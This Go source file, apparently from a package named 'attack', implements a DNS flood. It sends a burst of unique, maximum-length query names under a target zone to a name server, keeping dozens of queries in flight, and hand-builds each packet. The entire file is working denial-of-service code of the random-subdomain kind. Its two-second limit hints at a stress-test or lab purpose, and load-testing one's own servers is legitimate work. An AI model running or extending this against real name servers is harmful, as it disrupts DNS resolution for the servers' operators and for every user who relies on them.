package attack

import (
	"context"
	"encoding/binary"
	"fmt"
	"net"
	"strings"
	"time"
)

const (
	floodTime = 2 * time.Second
	// floodAhead is how many questions are asked before their answers have come.
	floodAhead = 64
)

// Flood asks a name server for as many different long names below a zone as it can, and returns how many it asked for.
func Flood(ctx context.Context, server, zone string) (asked int, err error) {
	conn, err := net.Dial("udp", server)
	if err != nil {
		return 0, err
	}
	defer conn.Close()
	began := time.Now()
	answer := make([]byte, 4096)
	for waiting := 0; time.Since(began) < floodTime && ctx.Err() == nil; {
		if waiting < floodAhead {
			if _, err := conn.Write(longQuestion(asked, zone)); err != nil {
				return asked, err
			}
			asked, waiting = asked+1, waiting+1
			continue
		}
		_ = conn.SetReadDeadline(time.Now().Add(50 * time.Millisecond))
		if _, err := conn.Read(answer); err == nil {
			waiting--
		} else {
			waiting = 0 // they are lost
		}
	}
	return asked, nil
}

// longQuestion is a question for A whose name is as long as may be, RFC 1035 §2.3.4.
func longQuestion(n int, zone string) []byte {
	b := binary.BigEndian.AppendUint16(nil, uint16(n))
	b = append(b, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0)
	room := 253 - len(zone) - 1
	name := fmt.Sprintf("%020d", n)
	for len(name)+2 < room {
		name += "." + strings.Repeat("x", min(63, room-len(name)-1))
	}
	for label := range strings.SplitSeq(name+"."+zone, ".") {
		b = append(append(b, byte(len(label))), label...)
	}
	return append(b, 0, 0, 1, 0, 1)
}
